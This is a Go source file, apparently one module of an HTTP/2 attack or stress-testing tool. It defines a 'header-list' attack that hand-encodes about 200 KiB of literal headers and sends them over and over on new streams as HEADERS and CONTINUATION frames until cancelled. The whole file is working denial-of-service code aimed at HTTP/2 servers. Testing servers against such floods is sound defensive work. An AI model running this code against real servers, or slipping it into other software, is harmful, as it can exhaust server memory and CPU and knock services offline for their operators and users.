package main

import (
	"bytes"
	"context"
	"fmt"

	"golang.org/x/net/http2"
)

// headerList sends header lists that are far too long, as literals.
var headerList = &attack{
	name: "header-list", what: "header lists of 200 KiB",
	run: func(ctx context.Context, e *enemy) error {
		var block bytes.Buffer
		for i := range 400 {
			block.Write([]byte{0x10, 4})
			fmt.Fprintf(&block, "x%03d", i)
			block.Write([]byte{0x7f, 0x81, 0x03}) // a string of 512 octets, in plain
			block.Write(bytes.Repeat([]byte("v"), 512))
		}
		for ctx.Err() == nil {
			first := append([]byte{0x82, 0x84, 0x87, 0x41, 1, 'h'}, block.Bytes()...)
			id := e.next
			e.next += 2
			if err := e.frame(http2.FrameHeaders, http2.FlagHeadersEndStream, id, first[:16000]); err != nil {
				return err
			}
			for rest := first[16000:]; len(rest) > 0; {
				n := min(len(rest), 16000)
				flags := http2.Flags(0)
				if n == len(rest) {
					flags = http2.FlagContinuationEndHeaders
				}
				if err := e.frame(http2.FrameContinuation, flags, id, rest[:n]); err != nil {
					return err
				}
				rest = rest[n:]
			}
			if err := e.flush(); err != nil {
				return err
			}
		}
		return nil
	},
}
